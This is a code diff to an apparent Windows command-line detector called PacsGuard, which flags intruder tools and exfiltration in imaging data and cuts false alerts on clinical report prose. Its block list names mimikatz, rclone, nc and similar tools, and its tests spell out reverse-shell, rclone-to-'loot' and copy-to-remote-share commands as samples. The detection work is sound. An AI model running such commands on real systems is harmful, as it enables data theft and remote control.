@@ -652,6 +652,43 @@ const RUNNABLE_EXTENSIONS: [&[u8]; 16] = [
     b".wsf", b".wsh", b".hta", b".msi", b".lnk", b".msc",
 ];
 
+/// Tools of intruders no Windows holds and no launcher rule here names otherwise: a plain
+/// word after `start` or `at`, or a bare `NAME.com`, counts only as one of these or of
+/// the other vocabularies of tools ([`known_tool`]). Review rv41-screen (F1): any word
+/// counted, so report lines (`Start heparin`, `At 2:00 PM`, `Radiology.com`) alerted.
+const INTRUDER_TOOLS: [&[u8]; 16] = [
+    b"mimikatz",
+    b"rclone",
+    b"plink",
+    b"pscp",
+    b"winrar",
+    b"rar",
+    b"7z",
+    b"7za",
+    b"procdump",
+    b"adfind",
+    b"ngrok",
+    b"lazagne",
+    b"rubeus",
+    b"sharphound",
+    b"nc",
+    b"ncat",
+];
+
+/// Whether `word` (a plain name, with or without `.exe`/`.com`) is a tool PacsGuard
+/// names: one of [`INTRUDER_TOOLS`], [`SYSTEM_PROGRAMS`], or a tool of [`BATCH`] that
+/// counts alone (an ambiguous one is judged by its arguments elsewhere). Prose cannot
+/// be told from a plain name otherwise: `Start scan`, `At 10:15 patient`.
+fn known_tool(word: &[u8]) -> bool {
+    let lower = word.to_ascii_lowercase();
+    let name = without_program_extension(&lower);
+    INTRUDER_TOOLS.contains(&name)
+        || SYSTEM_PROGRAMS.contains(&name)
+        || BATCH_TOOLS
+            .iter()
+            .any(|&(tool, counts)| tool == name && counts == Counts::Alone)
+}
+
 /// Whether `name`, a bare name of no tool known here, is one of a `.com` program and
 /// nothing else: letters, digits, `-` and `_`, then the extension (`evil.com`). `.COM`
 /// is first in PATHEXT, so such a name alone on its command runs the file (session 41:
@@ -723,8 +760,12 @@ fn tool_argument(tool: &[u8], after: &[u8], chance_bytes: bool, piped: bool) -> 
         // schedules nothing, and `start /min 5` a program `5`).
         // Neither: what it runs is its first word, a program or a plain name cmd.exe
         // looks for along the PATH (`start mimikatz`; session 41: it was clean).
+        // A name with an extension of PATHEXT (`start evil.msc`) is a program's: it was
+        // counted as a plain name before the known-tool rule.
         return start_runs(&line, chance_bytes).unwrap_or_else(|| {
-            names_program_or_url(token) || hands_a_plain_name(&line, chance_bytes)
+            names_program_or_url(token)
+                || has_runnable_extension(token)
+                || hands_a_plain_name(&line, chance_bytes, NameRule::Known)
         });
     }
     if ARGUED_BATCH.contains(&tool) {
@@ -767,7 +808,7 @@ fn cmd_runs(line: &[u8], chance_bytes: bool) -> bool {
                 // line's form, never prose's (`CMD /CBD`).
                 let apart = part.get(1).is_none_or(|&b| is_switch_separator(b));
                 return runs_command(command, chance_bytes)
-                    || (apart && hands_a_plain_name(command, chance_bytes));
+                    || (apart && hands_a_plain_name(command, chance_bytes, NameRule::Cmd));
             }
             from += part.len() + 1;
         }
@@ -799,27 +840,69 @@ const PLAIN_NAME_MIN_IN_BINARY: usize = 3;
 /// imaging sequence.` alerted; cmd.exe looks for a program `procedure` or
 /// `echo-planar`, which no Windows has). In binary values the name has at least
 /// [`PLAIN_NAME_MIN_IN_BINARY`] letters.
-fn hands_a_plain_name(command: &[u8], chance_bytes: bool) -> bool {
-    if !command.first().is_some_and(|&b| is_switch_separator(b)) {
-        return false;
-    }
-    let from = command
-        .iter()
-        .position(|&b| !is_switch_separator(b))
-        .unwrap_or(command.len());
-    let len = command[from..]
-        .iter()
-        .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
-        .unwrap_or(command.len() - from);
-    let word = &command[from..from + len];
+fn hands_a_plain_name(command: &[u8], chance_bytes: bool, rule: NameRule) -> bool {
+    let mut command = command;
+    let (word, len, from) = loop {
+        if !command.first().is_some_and(|&b| is_switch_separator(b)) {
+            return false;
+        }
+        let from = command
+            .iter()
+            .position(|&b| !is_switch_separator(b))
+            .unwrap_or(command.len());
+        let len = command[from..]
+            .iter()
+            .position(|&b| ends_word(b) || matches!(b, b'"' | b'/'))
+            .unwrap_or(command.len() - from);
+        let word = &command[from..from + len];
+        // `cmd /c call X` runs X (review rv41-screen M2): a loop, not a recursion, as
+        // a line may repeat `call` thousands of times.
+        if rule == NameRule::Cmd && word.eq_ignore_ascii_case(b"call") {
+            command = &command[from + len..];
+            continue;
+        }
+        break (word, len, from);
+    };
     // Past the quote closing a quoted name (`/c "payload"`).
     let rest = &command[from + len..];
     let rest = &rest[rest.iter().take_while(|&&b| b == b'"').count()..];
-    plain_program(word)
+    // A tool named here counts whatever its arguments (`start mimikatz foo`, `start ""
+    // rclone copy …`); `/` after the word ended it, so `Start aspirin/clopidogrel` is
+    // the word `aspirin`.
+    if known_tool(word) {
+        return true;
+    }
+    if rule == NameRule::Cmd {
+        // Session 40's rule (review rv41-screen M2: `cmd /c python evil.py`, `cmd /c date
+        // 01-01-2000`, `cmd /c type x > \\host\s\a.dcm` were clean): a name apart from
+        // `/c` is a command line's form whatever follows it; cmd's commands that only
+        // print count with a redirection or an operator ([`runs_command`]).
+        let lower = word.to_ascii_lowercase();
+        return word.first().is_some_and(u8::is_ascii_alphabetic)
+            && word
+                .iter()
+                .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
+            && !QUIET_INTERNAL.contains(&lower.as_slice())
+            && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY);
+    }
+    rule == NameRule::Plain
+        && plain_program(word)
         && (!chance_bytes || word.len() >= PLAIN_NAME_MIN_IN_BINARY)
         && leading_arguments(rest, chance_bytes)
             .next()
             .is_none_or(command_like_word)
+}
+
+/// Which plain names [`hands_a_plain_name`] counts: after a bare `start` (and `at`'s
+/// time) any word is prose's as often (`Start heparin`), so only a [`known_tool`]; after
+/// an empty title or a switch of `start` a name cmd.exe looks for along the PATH, alone
+/// or with a command's argument; after `cmd /c` (`Cmd`) any such name, whatever its
+/// arguments, but cmd's commands that only print, and `call X` is X.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum NameRule {
+    Known,
+    Plain,
+    Cmd,
 }
 
 /// Whether `word` is a plain name cmd.exe looks for as a program's: a letter, then
@@ -929,7 +1012,8 @@ fn start_runs(line: &[u8], chance_bytes: bool) -> Option<bool> {
             let from = span.start.saturating_sub(1);
             return (titled || switched).then(|| {
                 runs_command(&line[span.start..], chance_bytes)
-                    || ((untitled || switched) && hands_a_plain_name(&line[from..], chance_bytes))
+                    || ((untitled || switched)
+                        && hands_a_plain_name(&line[from..], chance_bytes, NameRule::Plain))
             });
         }
         // A switch `start` does not take is an error of its: nothing runs.
@@ -1089,8 +1173,29 @@ fn finds_program(word: &[u8]) -> bool {
 /// .txt=exefile`), a job scheduled to run a program (`at 23:00 x.exe`), a help file
 /// from afar, a file fetched by TFTP, hidden attributes, a script for bash.
 fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> bool {
-    let words: Vec<&[u8]> = leading_arguments(line, chance_bytes).collect();
-    let remote = || words.iter().any(|word| names_remote_host(word));
+    let words = before_block_end(leading_arguments(line, chance_bytes).collect());
+    // A share written with slashes (`//host/share`) is a file's operand only beside a
+    // path's (`C:\PACS\a.dcm`, `*.dcm`, `%f`): report prose writes `Copy at
+    // //PACSRV01/reports/`, `move to //pacs02/archive` (review rv41-screen F1).
+    let remote_file = || {
+        let slashed = |word: &[u8]| {
+            let word = word.strip_prefix(b"\"").unwrap_or(word);
+            word.starts_with(b"//")
+        };
+        let path_like = |word: &[u8]| {
+            word.first() != Some(&b'/')
+                && word
+                    .iter()
+                    .any(|b| matches!(b, b'\\' | b':' | b'*' | b'?' | b'%' | b'.'))
+        };
+        words.iter().any(|word| {
+            names_remote_host(word)
+                && (!slashed(word)
+                    || words
+                        .iter()
+                        .any(|other| !slashed(other) && path_like(other)))
+        })
+    };
     // `/q`, `-F:*`, `/fs:ntfs`: a switch of `names` (one ending with `:` takes a value);
     // `/q/y`: Windows' tools read each part after a `/` as a switch (session 41:
     // `format D: /q/y` was clean).
@@ -1136,8 +1241,8 @@ fn argues_danger(tool: &[u8], line: &[u8], chance_bytes: bool, piped: bool) -> b
         // move and xcopy refuse the line ("The syntax of the command is incorrect.",
         // "Invalid number of parameters") and copy nothing (session 41: `copy of report:
         // \\PACSRV01\reports\2024` in a report alerted).
-        b"copy" | b"xcopy" | b"move" => remote() && (1..=2).contains(&operands(&words)),
-        b"expand" => remote() || any_switch(&[b"f:"]),
+        b"copy" | b"xcopy" | b"move" => remote_file() && (1..=2).contains(&operands(&words)),
+        b"expand" => remote_file() || any_switch(&[b"f:"]),
         b"format" => {
             let drive = |word: &[u8]| matches!(word, [letter, b':'] | [letter, b':', b'\\'] if letter.is_ascii_alphabetic());
             // Its prompt answered by a pipe or a file (`echo Y|format D:`; session 41).
@@ -1307,6 +1412,42 @@ fn bash_runs(words: &[&[u8]]) -> bool {
     script_path || operand.to_ascii_lowercase().ends_with(b".sh")
 }
 
+/// `words` (a tool's arguments) up to a block's closing `)`: alone (`( copy a \\h\s )`)
+/// or glued to the last word (`(shutdown /t 0 /r)`), cmd.exe ends the command there, so
+/// it is neither an operand nor part of a switch (review rv41-screen M1: copy counted
+/// three operands and shutdown refused `/r)`; session 40 alerted). A `)` that a `(` of
+/// the same word opened is the word's (`a(1).dcm`).
+fn before_block_end(mut words: Vec<&[u8]>) -> Vec<&[u8]> {
+    let unbalanced = |word: &[u8]| {
+        word.iter().filter(|&&b| b == b')').count() > word.iter().filter(|&&b| b == b'(').count()
+    };
+    if let Some(at) = words.iter().position(|word| unbalanced(word)) {
+        let word = words[at];
+        words.truncate(at);
+        // What precedes the first unmatched `)` of the word is its last argument.
+        let mut depth = 0usize;
+        let end = word
+            .iter()
+            .position(|&b| match b {
+                b'(' => {
+                    depth += 1;
+                    false
+                }
+                b')' if depth == 0 => true,
+                b')' => {
+                    depth -= 1;
+                    false
+                }
+                _ => false,
+            })
+            .unwrap_or(word.len());
+        if end > 0 {
+            words.push(&word[..end]);
+        }
+    }
+    words
+}
+
 /// Whether `word` is a time `at` reads: `23:00`, `3:00`, and of twelve hours `3:00PM`,
 /// `3:00pm`, `3:00P` (session 41: `at 3:00PM C:\x\evil.exe` was clean).
 fn is_at_time(word: &[u8]) -> bool {
@@ -1364,7 +1505,9 @@ fn at_runs(words: &[&[u8]]) -> bool {
         let prints = SYSTEM_PROGRAMS.contains(&program) && !SHOWS_A_WINDOW.contains(&program);
         return !(prints && rest.is_empty());
     }
-    plain_program(&name) && rest.first().is_none_or(|word| command_like_word(word))
+    // Any other word after the time is report prose as often (`At 2:00 PM`, `at 16:45
+    // hours`, review rv41-screen): only a tool named here is scheduled.
+    known_tool(&name)
 }
 
 /// Whether `word`, a line's first word, is the whole UNC path of a program
@@ -5738,7 +5881,9 @@ fn batch_program(
     // `.js` counts only with a command's argument.
     let library = name.len() > 3 && name[name.len() - 3..].eq_ignore_ascii_case(b".js");
     // A bare `.com` counts alone only: a domain name is followed by prose.
-    let com = !runnable && bare_com_name(name);
+    // Of a tool named here only (`mimikatz.com`): `MEDIMAGING.COM` or `Radiology.com`
+    // alone on a report's line is a domain (review rv41-screen).
+    let com = !runnable && bare_com_name(name) && known_tool(name);
     if !((runnable || com) && file_name && name[0] != b'.') {
         return None;
     }
@@ -9530,9 +9675,9 @@ mod lolbin_tests {
             ],
             &[false, true],
         );
-        assert_alerts(&["evil.com", "evil.msc", "evil.com 2>nul"], &[false]);
+        assert_alerts(&["mimikatz.com", "evil.msc", "rclone.com 2>nul"], &[false]);
         // Alone in binary values: as chance bytes make such a line, a warning.
-        for line in ["evil.com", "evil.msc"] {
+        for line in ["mimikatz.com", "evil.msc"] {
             let severity = found(line.as_bytes(), true).map(|found| found.severity);
             assert_eq!(severity, Some(Severity::Warning), "{line}");
         }
@@ -9642,6 +9787,123 @@ mod lolbin_tests {
             "ren 10% vs 12.5",
             "EGENIX.COM SOFTWARE LICENSE",
             "www.example.com",
+        ]);
+    }
+
+    /// Review rv41-screen (F1): report lines that `start` or `at` read as handing a plain
+    /// name (`Start heparin`, `At 2:00 PM`), or a domain alone (`Radiology.com`), are
+    /// prose: a plain word after `start`/`at` counts only as a tool named here
+    /// ([`known_tool`]), and `/word` after it makes no switch.
+    #[test]
+    fn a_plain_word_after_start_or_at_counts_only_as_a_known_tool() {
+        assert_clean(&[
+            "Start heparin",
+            "Start anticoagulation",
+            "Start scan",
+            "Start IV",
+            "Start CT",
+            "Start breath-hold",
+            "Start aspirin/clopidogrel",
+            "Start CT/MR",
+            "At 14:32 callback",
+            "at 16:45 hours",
+            "At 2:00 PM",
+            "At 12:00 noon",
+            "At 10:15 patient",
+            "MEDIMAGING.COM",
+            "Radiology.com",
+        ]);
+        assert_alerts(
+            &[
+                "start mimikatz",
+                "start mimikatz foo",
+                "start rclone copy C:\\PACS remote:loot",
+                "start \"\" rclone copy C:\\PACS remote:loot",
+                "start /b psexec \\\\198.51.100.7 cmd",
+                "at 23:00 mimikatz foo",
+                "at 23:00 rclone copy C:\\PACS remote:",
+            ],
+            &[false, true],
+        );
+        assert_alerts(
+            &["mimikatz.com", "rclone.com 2>nul", "start evil.msc"],
+            &[false],
+        );
+    }
+
+    /// Review rv41-screen (M1): a command inside a `( … )` block ends at the block's `)`,
+    /// alone or glued to its last word; the `)` is no operand (copy's third) and no
+    /// switch (shutdown's `/r)`). Session 40 alerted on each.
+    #[test]
+    fn a_blocks_closing_parenthesis_ends_the_command() {
+        assert_alerts(
+            &[
+                "if exist C:\\PACS ( copy C:\\PACS\\*.dcm \\\\198.51.100.7\\s )",
+                "for %f in (C:\\PACS\\*.dcm) do ( copy \"%f\" \\\\198.51.100.7\\s )",
+                "if exist C:\\PACS ( xcopy C:\\PACS \\\\198.51.100.7\\s /s /e )",
+                "if exist C:\\PACS ( move C:\\PACS\\*.dcm \\\\198.51.100.7\\s)",
+                "if 1==1 ( shutdown /r /t 0 )",
+                "if %errorlevel%==0 ( shutdown /s /f /t 0 ) else ( echo ok )",
+                "(shutdown /t 0 /r)",
+                "if 1==1 (shutdown /s /t 0 /f)",
+            ],
+            &[false, true],
+        );
+        // A `)` that a `(` of the word opened is the word's (`a(1).dcm`).
+        assert_alerts(
+            &["copy C:\\PACS\\a(1).dcm \\\\198.51.100.7\\s(2)"],
+            &[false],
+        );
+    }
+
+    /// Review rv41-screen (F1): a share written with slashes beside a word of prose is
+    /// prose (`Copy at //PACSRV01/reports/`); beside a path it is a copy to a share.
+    #[test]
+    fn a_slashed_share_counts_beside_a_path_only() {
+        assert_clean(&[
+            "Copy at //PACSRV01/reports/",
+            "move to //pacs02/archive",
+            "expand to //server/path/",
+        ]);
+        assert_alerts(
+            &[
+                "copy C:\\PACS\\a.dcm //198.51.100.7/loot/",
+                "move *.dcm //198.51.100.7/loot/",
+            ],
+            &[false],
+        );
+    }
+
+    /// Review rv41-screen (M2): `cmd /c NAME args` runs NAME whatever its arguments, as
+    /// session 40 read it (a name after `/c` apart from it is a command line's form,
+    /// never prose's); `call X` is X. Only cmd's commands that print (`echo`, `ver`, …)
+    /// count with a redirection or an operator alone.
+    #[test]
+    fn a_plain_name_after_cmd_c_counts_whatever_its_arguments() {
+        assert_alerts(
+            &[
+                "cmd /c rclone copy C:\\PACS mega:loot",
+                "cmd /c nc 198.51.100.7 4444 -e cmd.exe",
+                "cmd /c plink root@198.51.100.7 -R 3389:127.0.0.1:3389",
+                "cmd /c python evil.py",
+                "cmd /c winrar a -hpSECRET loot.rar C:\\PACS",
+                "cmd /c mimikatz exit",
+                "cmd /c mimikatz 1",
+                "cmd /c \"mimikatz foo\"",
+                "cmd /c mimikatz x 2>nul",
+                "cmd /c call mimikatz",
+                "cmd /c call evil foo",
+                "cmd /c type C:\\PACS\\a.dcm > \\\\198.51.100.7\\s\\a.dcm",
+                "cmd /c date 01-01-2000",
+                "( cmd /c mimikatz )",
+            ],
+            &[false, true],
+        );
+        assert_clean(&[
+            "cmd /c echo of CBD seen",
+            "CMD /C ECHO normal",
+            "CMD /CBD dilated",
+            "cmd /c ver",
         ]);
     }
 
